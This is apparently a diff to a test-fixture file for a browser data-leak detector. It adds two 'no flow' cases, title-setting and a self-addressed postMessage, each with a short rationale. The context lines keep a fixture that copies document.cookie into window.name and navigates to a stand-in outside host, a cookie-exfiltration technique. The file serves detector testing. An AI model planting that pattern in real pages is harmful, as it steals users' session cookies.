@@ -94,3 +94,14 @@ if (mail2) fr2.contentWindow.postMessage({ ready: true }, 'https://frame0.nav2.e
 // why: window.name survives the navigation to the other host
 window.name = document.cookie;
 location.href = 'https://wn.nav2.example/land';
+
+//# title-set
+// no flow
+// why: the title of the page is no address
+document.title = 'Hello ' + document.querySelector('input[autocomplete=name]').value;
+location.href = 'https://title0.nav2.example/';
+
+//# postmessage-to-self
+// no flow
+// why: the message goes to the page's own window and nobody listens
+window.postMessage({ mail: document.querySelector('input[type=email]').value }, location.origin);
